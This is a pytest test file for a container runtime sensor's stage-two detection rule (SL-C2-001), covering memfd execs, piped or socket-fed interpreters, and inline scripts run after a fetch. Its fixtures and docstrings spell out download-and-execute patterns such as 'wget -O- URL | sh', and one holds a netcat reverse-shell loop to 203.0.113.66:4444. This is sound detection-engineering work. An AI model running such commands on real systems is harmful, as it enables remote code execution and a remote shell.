"""Stage-two origins read from /proc (sensor.telemetry.stage) and the
behavioural SL-C2-001 built on them: memfd and /proc fd execs, an
interpreter fed by a pipe whose writer fetched the script, or by a socket,
and executables outside a learned workload's baseline."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from sensor.detect.view import FORKED, WindowView
from sensor.telemetry.stage import (
    FD_EXEC,
    MEMFD,
    SCRIPT_FILE,
    STDIN_PIPE,
    STDIN_SOCKET,
    Origin,
    is_interpreter,
    script_fd,
    script_from_stdin,
    script_source,
    stage_origin,
)
from tests.support.views import T0, WINDOW, config, connect, container, detector, exec_, learn, window


def fake_proc(root: Path, pid: int, fds: dict[int, tuple[str, int]]) -> None:
    """/proc/<pid>/fd/N -> target, and fdinfo flags (octal)."""
    (root / str(pid) / "fd").mkdir(parents=True)
    (root / str(pid) / "fdinfo").mkdir(parents=True)
    for fd, (target, flags) in fds.items():
        os.symlink(target, root / str(pid) / "fd" / str(fd))
        (root / str(pid) / "fdinfo" / str(fd)).write_text(f"pos:\t0\nflags:\t{flags:o}\nmnt_id:\t9\n")


@pytest.mark.parametrize(
    ("args", "stdin"),
    [
        (["sh"], True),
        (["sh", "-s", "--", "a"], True),
        (["bash", "-"], True),
        (["python3", "-u"], True),
        (["python3.11", "-"], True),
        (["busybox", "sh"], True),
        (["sh", "-c", "wget -O- x | sh"], False),
        (["sh", "--", "/app/run.sh"], False),
        (["sh", "--"], True),
        (["sh", "/app/start.sh"], False),
        (["perl", "-e", "print 1"], False),
        (["python3", "app.py"], False),
        (["busybox", "wget", "-O-", "x"], False),
        ([], False),
        (None, False),
    ],
)
def test_script_from_stdin(args: list[str] | None, stdin: bool) -> None:
    assert script_from_stdin(args) is stdin


@pytest.mark.parametrize(
    ("args", "source"),
    [
        (["sh", "-ec", "curl -s http://x/health"], None),  # a cluster holding c (review)
        (["bash", "-lc", "make"], None),
        (["bash", "-o", "pipefail", "-c", "make"], None),
        (["bash", "-o", "pipefail", "/dev/stdin"], "/dev/stdin"),
        (["bash", "+o", "history", "run.sh"], "run.sh"),
        (["bash", "--rcfile", "/etc/rc", "x.sh"], "x.sh"),
        (["sh", "-x", "--", "/dev/stdin"], "/dev/stdin"),
        (["sh", "-xs"], "-"),
        (["python3", "-m", "http.server"], None),
        (["python3", "-W", "ignore", "/dev/stdin"], "/dev/stdin"),
        (["python3", "-Wignore", "app.py"], "app.py"),
        (["python3", "-uc", "print(1)"], None),
        (["perl", "-MIO::Socket::INET", "-e", "1"], None),
        (["perl", "-ne", "print"], None),
        (["perl", "-I", "/lib", "x.pl"], "x.pl"),
        (["node", "-r", "dotenv/config", "index.js"], "index.js"),
        (["node", "--require=x", "index.js"], "index.js"),
        (["node", "--eval", "1"], None),
        (["busybox", "sh", "-c", "x"], None),
    ],
)
def test_script_source_reads_options(args: list[str], source: str | None) -> None:
    assert script_source(args) == source


def test_interpreters() -> None:
    assert all(is_interpreter(x) for x in ("/bin/sh", "bash", "python3.12", "perl5.36", "node", "/usr/bin/ruby"))
    assert not any(is_interpreter(x) for x in ("/usr/bin/wget", "curl", "pythonista", "/app/server"))


def test_piped_script_names_its_writer(tmp_path: Path) -> None:
    fake_proc(tmp_path, 200, {0: ("pipe:[777]", 0), 1: ("/dev/null", 1)})
    fake_proc(tmp_path, 199, {0: ("/dev/null", 0), 1: ("pipe:[777]", 1), 3: ("socket:[55]", 2)})
    fake_proc(tmp_path, 198, {0: ("pipe:[777]", 0)})  # another reader is not a writer
    o = stage_origin(200, "/bin/sh", "/bin/sh", ["sh"], lambda: [198, 199, 4242], str(tmp_path))
    assert o is not None and o.kind == STDIN_PIPE and o.writers == (199,)


@pytest.mark.parametrize(
    ("filename", "args", "stage"),
    [
        ("/bin/base64", ["base64"], False),  # `head -c N /dev/urandom | base64`
        ("/bin/gzip", ["gzip"], False),  # `head -c N file | gzip > x.gz`
        ("/bin/busybox", ["busybox", "gzip"], False),
        ("/bin/sh", ["sh"], True),  # `wget -O- URL | sh`
        ("/bin/busybox", ["busybox", "sh"], True),
        ("/bin/ash", ["ash", "-s"], True),
    ],
)
def test_busybox_applets_on_a_pipe_are_no_script(tmp_path: Path, filename: str, args: list[str], stage: bool) -> None:
    """A multi-call binary is the applet argv[0] (or argv[1]) names: every
    busybox applet's executable is /bin/busybox, a shell's as well as
    gzip's, so the executable alone says nothing. A filter fed by a pipe
    (the lab's web application, `... | base64`) is no script piped into an
    interpreter; it chained a connect before and after into SL-C2-001."""
    fake_proc(tmp_path, 200, {0: ("pipe:[777]", 0)})
    fake_proc(tmp_path, 199, {1: ("pipe:[777]", 1)})
    o = stage_origin(200, filename, "/bin/busybox", args, lambda: [199], str(tmp_path))
    assert (o is not None and o.kind == STDIN_PIPE) is stage, o


def test_socket_on_stdin(tmp_path: Path) -> None:
    fake_proc(tmp_path, 300, {0: ("socket:[123]", 2)})
    o = stage_origin(300, "/usr/bin/python3", "/usr/bin/python3", ["python3"], list, str(tmp_path))
    assert o is not None and o.kind == STDIN_SOCKET


def test_interpreter_on_a_file_or_tty_or_gone_is_no_stage(tmp_path: Path) -> None:
    fake_proc(tmp_path, 400, {0: ("/dev/pts/0", 2)})
    assert stage_origin(400, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path)) is None
    assert stage_origin(401, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path)) is None  # exited
    # a script file: the rule judges where it is
    o = stage_origin(400, "/bin/sh", "/bin/sh", ["sh", "/app/run.sh"], list, str(tmp_path))
    assert o is not None and o.kind == SCRIPT_FILE and o.path == "/app/run.sh"


@pytest.mark.parametrize(
    ("source", "fd"),
    [
        ("-", ("", 0)),
        ("/dev/stdin", ("", 0)),
        ("/dev/./stdin", ("", 0)),
        ("//dev/stdin", ("", 0)),
        ("/dev/fd/0", ("", 0)),
        ("/proc/self/fd/0", ("", 0)),
        ("/proc/thread-self/fd/0", ("", 0)),
        ("/proc/self/task/1/fd/0", ("", 0)),
        ("/proc/1234/fd/5", ("1234", 5)),  # `bash /proc/$$/fd/0`: another process's
        ("/dev/fd/63", ("", 63)),  # bash <(curl ...)
        ("/tmp/s.sh", None),
        ("/dev/stdinx", None),
        ("/proc/self/fdx/0", None),
    ],
)
def test_script_fd(source: str, fd: tuple[str, int] | None) -> None:
    assert script_fd(source) == fd


@pytest.mark.parametrize(
    ("args", "fd"),
    [
        (["sh", "/dev/stdin"], 0),  # `wget -O- URL | sh /dev/stdin` (review)
        (["sh", "/proc/self/fd/0"], 0),
        (["bash", "/dev/fd/63"], 63),  # `bash <(curl URL)`
        (["busybox", "sh", "--", "/dev/stdin"], 0),
    ],
)
def test_a_script_operand_naming_a_pipe_is_a_piped_script(tmp_path: Path, args: list[str], fd: int) -> None:
    """`sh /dev/stdin` and `sh /proc/self/fd/0` read the pipe `curl | sh`
    does; they ran unnoticed (review)."""
    fake_proc(tmp_path, 500, {fd: ("pipe:[888]", 0)})
    fake_proc(tmp_path, 499, {1: ("pipe:[888]", 1)})
    o = stage_origin(500, "/bin/sh", "/bin/sh", args, lambda: [499], str(tmp_path))
    assert o is not None and o.kind == STDIN_PIPE and o.writers == (499,)


def test_a_relative_script_is_under_the_working_directory(tmp_path: Path) -> None:
    fake_proc(tmp_path, 600, {})
    os.symlink("/tmp/work", tmp_path / "600" / "cwd")
    o = stage_origin(600, "/bin/sh", "/bin/sh", ["sh", "./s.sh"], list, str(tmp_path))
    assert o is not None and o.kind == SCRIPT_FILE and o.path == "/tmp/work/s.sh"
    assert stage_origin(601, "/bin/sh", "/bin/sh", ["sh", "s.sh"], list, str(tmp_path)) is None  # gone


@pytest.mark.parametrize(
    ("filename", "exe", "kind"),
    [
        ("/proc/self/fd/3", "/memfd:payload (deleted)", MEMFD),
        ("/dev/fd/4", "/memfd: (deleted)", MEMFD),
        ("/proc/1234/fd/7", "/tmp/x (deleted)", FD_EXEC),
        ("/proc/thread-self/fd/7", "/tmp/x (deleted)", FD_EXEC),  # the script operand's forms too
        ("/proc/self/task/9/fd/7", "/tmp/x (deleted)", FD_EXEC),
        ("/usr/bin/x", "/memfd:x (deleted)", MEMFD),
    ],
)
def test_fd_and_memfd_execs(tmp_path: Path, filename: str, exe: str, kind: str) -> None:
    o = stage_origin(1, filename, exe, ["x"], list, str(tmp_path))
    assert o is not None and o.kind == kind


# --- the rule ---------------------------------------------------------------------

DET = T0 + 600.0
EVIL: dict[str, Any] = {"image": "evil/exfil:latest"}


def rules_of(alerts: list[dict[str, Any]]) -> list[str]:
    return [a["rule"]["id"] for a in alerts]


def learned(make, n: int = 5):
    return learn(make(T0 + i * WINDOW) for i in range(n))


DROP = container("dropper", **EVIL)


def staged(ex, **kw):
    for k, v in kw.items():
        setattr(ex, k, v)
    return ex


def test_pipe_stage_whose_writer_connects_after_the_exec(tmp_path: Path) -> None:
    """`wget -O- http://A/s | sh`: sh execs first, wget (the pipe's writer)
    then connects to A, and the script opens a channel to B."""
    h = detector(config(tmp_path))
    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=21), origin=STDIN_PIPE, writers=(20,))
    v = window(
        DET + 5,
        seconds=10,
        execs=[sh],
        connects=[
            connect(DROP, DET + 0.01, "198.51.100.5", 80, executable="/usr/bin/wget", pid=20),
            connect(DROP, DET + 0.5, "203.0.113.66", 4444, executable="/usr/bin/nc", pid=22),
        ],
    )
    alerts = h.run(v)
    assert rules_of(alerts) == ["SL-C2-001"]
    ev = alerts[0]["sluice"]["evidence"]
    assert ev["stage"] == STDIN_PIPE and ev["chain"][1]["script_writers"] == [20]
    assert ev["chain"][0]["destination"] == "198.51.100.5:80"
    assert "piped into" in alerts[0]["message"]


def test_pipe_stage_needs_its_writer_to_connect(tmp_path: Path) -> None:
    """`cat local.sh | sh` (writer 20 never connects): a connect by someone
    else is not the fetch."""
    h = detector(config(tmp_path))
    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=21), origin=STDIN_PIPE, writers=(20,))
    v = window(
        DET + 5,
        seconds=10,
        execs=[sh],
        connects=[
            connect(DROP, DET + 0.01, "198.51.100.5", 80, pid=30),
            connect(DROP, DET + 0.5, "203.0.113.66", 4444, pid=22),
        ],
    )
    assert h.run(v) == []


def test_pipe_stage_with_an_exited_writer_uses_a_nearby_fetch(tmp_path: Path) -> None:
    h = detector(config(tmp_path))
    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=21), origin=STDIN_PIPE)
    v = window(
        DET + 5,
        seconds=10,
        execs=[sh],
        connects=[
            connect(DROP, DET - 0.2, "198.51.100.5", 80, pid=20),
            connect(DROP, DET + 2, "203.0.113.66", 4444, pid=22),
        ],
    )
    assert rules_of(h.run(v)) == ["SL-C2-001"]


def test_a_socket_on_stdin_connected_by_the_process_itself(tmp_path: Path) -> None:
    """perl connects, dups the socket to STDIN and execs sh (same pid), and
    the script sleeps 12 s before its channel: the own pid was never the
    fetch and a connect 10 s before was too old (review)."""
    h = detector(config(tmp_path))
    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=51), origin=STDIN_SOCKET)
    fetch = connect(DROP, DET - 30, "198.51.100.5", 7777, executable="/usr/bin/perl", pid=51)
    later = connect(DROP, DET + 12, "203.0.113.66", 21999, executable="/usr/bin/nc", pid=52)
    alerts = h.run(window(DET + 15, seconds=60, execs=[sh], connects=[fetch, later]))
    assert rules_of(alerts) == ["SL-C2-001"]
    assert alerts[0]["sluice"]["evidence"]["chain"][0]["destination"] == "198.51.100.5:7777"
    # the same process's connect after the exec is the channel, not the fetch
    h2 = detector(config(tmp_path))
    sh2 = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=61), origin=STDIN_SOCKET)
    own_after = connect(DROP, DET + 1, "198.51.100.9", 80, pid=61)
    assert h2.run(window(DET + 15, seconds=60, execs=[sh2], connects=[own_after])) == []


def test_a_downloaded_script_in_a_writable_path_is_a_stage(tmp_path: Path) -> None:
    """`wget -O /tmp/s.sh URL; sh /tmp/s.sh`: the interpreter is no new
    executable and nothing is piped, so the chain ran unnoticed (review).
    A script under a writable path is a stage; one elsewhere is not."""
    h = detector(config(tmp_path))
    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh", "/tmp/s.sh"], pid=31), origin=SCRIPT_FILE, script="/tmp/s.sh")
    app = staged(exec_(DROP, DET, "/bin/sh", ["sh", "/app/run.sh"], pid=41), origin=SCRIPT_FILE, script="/app/run.sh")
    fetch = connect(DROP, DET - 1, "198.51.100.5", 80, executable="/usr/bin/wget", pid=30)
    out = connect(DROP, DET + 1, "203.0.113.66", 4444, executable="/usr/bin/nc", pid=32)
    alerts = h.run(window(DET + 5, seconds=10, execs=[sh], connects=[fetch, out]))
    assert rules_of(alerts) == ["SL-C2-001"]
    ev = alerts[0]["sluice"]["evidence"]
    assert ev["stage"] == "writable_script" and ev["chain"][1]["script"] == "/tmp/s.sh"
    assert "the script /tmp/s.sh with /bin/sh" in alerts[0]["message"]
    h2 = detector(config(tmp_path))
    assert h2.run(window(DET + 5, seconds=10, execs=[app], connects=[fetch, out])) == []


def test_scripts_where_applications_live_or_learned_are_no_stage(tmp_path: Path) -> None:
    """`node /home/node/app/x.js` (node's images keep apps in /home/node) is
    no stage; a learned workload's own script under /tmp is not either."""
    fetch = connect(DROP, DET - 1, "198.51.100.5", 80, executable="/usr/bin/wget", pid=30)
    out = connect(DROP, DET + 1, "203.0.113.66", 4444, executable="/usr/bin/nc", pid=32)
    app = staged(
        exec_(DROP, DET, "/usr/bin/node", ["node", "/home/node/app/x.js"], pid=31),
        origin=SCRIPT_FILE,
        script="/home/node/app/x.js",
    )
    assert detector(config(tmp_path)).run(window(DET + 5, seconds=10, execs=[app], connects=[fetch, out])) == []
    web = container("web-1", image="acme/web:1")

    def run_sh(ts: float) -> Any:
        return staged(exec_(web, ts, "/bin/sh", ["sh", "/tmp/init.sh"]), origin=SCRIPT_FILE, script="/tmp/init.sh")

    b = learned(lambda end: window(end, execs=[run_sh(end - 1)]))
    assert "/tmp/init.sh" in b.workloads["acme/web"].executables
    h = detector(config(tmp_path), b)
    v = window(
        DET + 5,
        seconds=10,
        execs=[run_sh(DET)],
        connects=[connect(web, DET - 1, "198.51.100.5", 80), connect(web, DET + 1, "203.0.113.66", 4444)],
    )
    assert not [a for a in h.run(v) if a["rule"]["id"] == "SL-C2-001"]


def test_a_pipe_stage_without_its_writer_needs_a_sibling_fetch(tmp_path: Path) -> None:
    """Writer unknown (gone, or judged from the kernel's view of fd 0): the
    fetch is the interpreter's sibling in the pipeline (same parent), not
    any process that connected nearby."""
    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=21), origin=STDIN_PIPE)
    sh.process.ppid = 7
    other = connect(DROP, DET - 0.2, "198.51.100.5", 80, pid=20)
    other.process.ppid = 99
    later = connect(DROP, DET + 2, "203.0.113.66", 4444, pid=22)
    assert detector(config(tmp_path)).run(window(DET + 5, seconds=10, execs=[sh], connects=[other, later])) == []
    other.process.ppid = 7
    assert rules_of(
        detector(config(tmp_path)).run(window(DET + 5, seconds=10, execs=[sh], connects=[other, later]))
    ) == ["SL-C2-001"]


@pytest.mark.parametrize("origin", [MEMFD, FD_EXEC])
def test_memfd_stage_outside_writable_paths(tmp_path: Path, origin: str) -> None:
    h = detector(config(tmp_path))
    ex = staged(exec_(DROP, DET, "/memfd:x (deleted)", ["x"], pid=11), origin=origin)
    v = window(
        DET + 5,
        seconds=10,
        execs=[ex],
        connects=[connect(DROP, DET - 1, "198.51.100.5", 80, pid=10), connect(DROP, DET + 1, "203.0.113.66", 4444)],
    )
    alerts = h.run(v)
    assert rules_of(alerts) == ["SL-C2-001"] and alerts[0]["sluice"]["evidence"]["stage"] == origin


def test_executable_outside_the_baseline_is_a_stage(tmp_path: Path) -> None:
    """A learned workload runs /app/bin/helper it never ran while learning
    (not a writable path), then talks to a new host."""
    app = container("app-1", image="acme/app:1")
    b = learned(lambda end: window(end, execs=[exec_(app, end - 1, "/app/bin/server", ["server"])]))
    h = detector(config(tmp_path), b)

    def chain(exe: str, t: float) -> WindowView:
        return window(
            t + 5,
            seconds=10,
            execs=[exec_(app, t, exe, [exe], pid=11)],
            connects=[connect(app, t - 1, "198.51.100.5", 80, pid=10), connect(app, t + 1, "203.0.113.66", 4444)],
        )

    assert h.run(chain("/app/bin/server", DET)) == []  # known executable
    alerts = h.run(chain("/app/bin/helper", DET + 60))
    assert rules_of(alerts) == ["SL-C2-001"] and alerts[0]["sluice"]["evidence"]["stage"] == "new_executable"


def test_a_gone_interpreter_is_judged_by_the_kernels_view_of_its_stdin(tmp_path: Path) -> None:
    """`wget -O- URL | sh` with a one-line stage: sh exited before /proc
    was read (review: no stage). The exec event's fd 0 mode stands in."""
    fifo, sock, tty = 0o010600, 0o140777, 0o020620
    assert stage_origin(700, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path), stdin_mode=fifo) == Origin(STDIN_PIPE)
    o = stage_origin(700, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path), stdin_mode=sock)
    assert o is not None and o.kind == STDIN_SOCKET
    assert stage_origin(700, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path), stdin_mode=tty) is None
    assert stage_origin(700, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path)) is None  # unknown
    # /dev/fd/63 is not fd 0: its type was not read
    assert stage_origin(700, "/bin/sh", "/bin/sh", ["bash", "/dev/fd/63"], list, str(tmp_path), stdin_mode=fifo) is None


@pytest.mark.parametrize(
    "args,inline",
    [
        (["sh", "-c", "id"], True),
        (["bash", "-ec", "id"], True),
        (["python3", "-c", "print(1)"], True),
        (["perl", "-e", "print 1"], True),
        (["node", "--eval", "1"], True),
        (["busybox", "sh", "-c", "id"], True),
        (["python3", "-m", "http.server"], False),  # a module: nothing fetched on the line
        (["sh", "/tmp/x.sh"], False),
        (["sh"], False),
        (["bash", "-o", "pipefail", "x.sh"], False),
        (None, False),
    ],
)
def test_runs_inline(args: list[str] | None, inline: bool) -> None:
    from sensor.telemetry.stage import runs_inline

    assert runs_inline(args) is inline


def _inline_chain(
    sh_ppid: int,
    fetch_ppid: int,
    fetch_pid: int = 20,
    dt: float = 0.3,
    exe: str = "/bin/sh",
    argv: tuple[str, str] = ("sh", "-c"),
    sh_gppid: int = 0,
    sh_parent: str = "",
    fetch_gppid: int = 0,
    fetch_parent: str = "",
) -> WindowView:
    """`sh -c "$(wget -qO- URL)"`: the outer shell (pid 7) runs wget in a
    child that connects, then sh -c with what it printed; then a channel."""
    sh = exec_(DROP, DET, exe, [*argv, "while :; do nc 203.0.113.66 4444 -e sh; done"], pid=21)
    sh.process.ppid, sh.process.gppid, sh.process.parent = sh_ppid, sh_gppid, sh_parent
    fetch = connect(DROP, DET - dt, "198.51.100.5", 80, pid=fetch_pid, executable="/usr/bin/wget")
    fetch.process.ppid, fetch.process.gppid, fetch.process.parent = fetch_ppid, fetch_gppid, fetch_parent
    later = connect(DROP, DET + 2, "203.0.113.66", 4444, pid=22, executable="/usr/bin/nc")
    return window(DET + 5, seconds=10, execs=[sh], connects=[fetch, later])


def test_an_inline_script_right_after_a_sibling_fetch_is_a_stage(tmp_path: Path) -> None:
    """Left undone last session: `sh -c "$(wget -qO- URL)"` ran no new
    executable and read no pipe, so no stage was seen."""
    alerts = detector(config(tmp_path)).run(_inline_chain(7, 7))
    assert rules_of(alerts) == ["SL-C2-001"], alerts
    ev = alerts[0]["sluice"]["evidence"]
    assert ev["stage"] == "inline_script"
    assert [s["step"] for s in ev["chain"]] == ["connect", "exec", "connect"]
    assert "a fetched script on the command line of /bin/sh" in alerts[0]["message"]


@pytest.mark.parametrize(
    "sh_ppid,fetch_ppid,fetch_pid,dt",
    [
        (7, 99, 20, 0.3),  # an unrelated process's connect
        (7, 7, 20, 30.0),  # too long before
        (7, 7, 20, -0.5),  # after the exec: the command line was fixed before
        (0, 0, 20, 0.3),  # parents unknown: nothing ties them
    ],
)
def test_an_inline_script_needs_a_related_fetch_just_before(
    tmp_path: Path, sh_ppid: int, fetch_ppid: int, fetch_pid: int, dt: float
) -> None:
    assert detector(config(tmp_path)).run(_inline_chain(sh_ppid, fetch_ppid, fetch_pid, dt)) == []


def test_an_inline_script_exec_d_by_the_shell_whose_child_fetched_is_a_stage(tmp_path: Path) -> None:
    """The emulation's run: `sh -c 'sh -c "$(wget ...)"'` - the outer shell
    (pid 21) ran wget in a child, then exec'd the inner sh as its last
    command: same pid, so wget is the interpreter's own pid's child."""
    assert rules_of(detector(config(tmp_path)).run(_inline_chain(1, 21))) == ["SL-C2-001"]


def test_an_inline_script_after_its_parents_own_connect_is_no_stage(tmp_path: Path) -> None:
    """An application that talks to its database and runs `sh -c`: its own
    connects are not a fetch feeding the shell."""
    assert detector(config(tmp_path)).run(_inline_chain(7, 1, fetch_pid=7)) == []


def test_an_inline_script_fed_through_a_subshell_is_a_stage(tmp_path: Path) -> None:
    """Left undone: `sh -c "$(wget -qO- URL | cat)"`: the fetch runs in a
    child of a subshell (pid 8, a fork of the outer shell, pid 7, that
    exec'd nothing); `$(timeout 5 wget ...)` with a wrapper there."""
    for between in (FORKED, "timeout"):
        v = _inline_chain(7, 8, fetch_gppid=7, fetch_parent=between)
        assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"], between


def test_an_inline_script_started_through_a_wrapper_is_a_stage(tmp_path: Path) -> None:
    """Left undone: `timeout 9 sh -c "$(wget -qO- URL)"` (coreutils: it
    forks) and `echo | xargs sh -c "$s"` (busybox ash runs the xargs applet
    in a fork, measured): the interpreter's parent (pid 9) stands for its
    parent (pid 7), which ran the fetch in a child, or in a subshell's."""
    for between in ("timeout", FORKED):
        v = _inline_chain(9, 7, sh_gppid=7, sh_parent=between)
        assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"], between
        v = _inline_chain(9, 8, sh_gppid=7, sh_parent=between, fetch_gppid=7, fetch_parent=FORKED)
        assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"], between


@pytest.mark.parametrize(
    "sh_ppid,fetch_ppid,fetch_pid,sh_gppid,sh_parent,fetch_gppid,fetch_parent",
    [
        (9, 7, 20, 7, "gunicorn", 0, ""),  # the grandparent's other children, no wrapper between
        (9, 1, 7, 7, "timeout", 0, ""),  # the wrapper's parent's own connect
        (9, 7, 9, 7, "timeout", 0, ""),  # the wrapper's own (it fetches nothing)
        (7, 8, 20, 0, "", 99, FORKED),  # a grandchild of an unrelated process
        (7, 8, 20, 0, "", 0, FORKED),  # its parent's parent unknown
        (7, 8, 20, 0, "", 7, "python3"),  # a grandchild through another program (a worker's helper)
        (7, 8, 20, 0, "", 7, ""),  # ... or through one that predates the sensor
    ],
)
def test_an_inline_script_through_a_subshell_or_wrapper_needs_the_relation(
    tmp_path: Path,
    sh_ppid: int,
    fetch_ppid: int,
    fetch_pid: int,
    sh_gppid: int,
    sh_parent: str,
    fetch_gppid: int,
    fetch_parent: str,
) -> None:
    v = _inline_chain(
        sh_ppid,
        fetch_ppid,
        fetch_pid,
        sh_gppid=sh_gppid,
        sh_parent=sh_parent,
        fetch_gppid=fetch_gppid,
        fetch_parent=fetch_parent,
    )
    assert detector(config(tmp_path)).run(v) == []


def test_busybox_re_running_itself_as_sh_is_an_interpreter(tmp_path: Path) -> None:
    """The emulation's real exec: busybox's ash runs `sh` as /proc/self/exe
    with argv[0] "sh" (the stage was missed)."""
    v = _inline_chain(1, 21, exe="/proc/self/exe")
    assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"]


@pytest.mark.parametrize("argv", [("gzip", "-c"), ("wget", "-c")])
def test_a_busybox_applets_c_is_no_inline_script(tmp_path: Path, argv: tuple[str, str]) -> None:
    """/bin/busybox is a shell by name, but `busybox gzip -c` is gzip."""
    assert detector(config(tmp_path)).run(_inline_chain(1, 21, exe="/bin/busybox", argv=argv)) == []
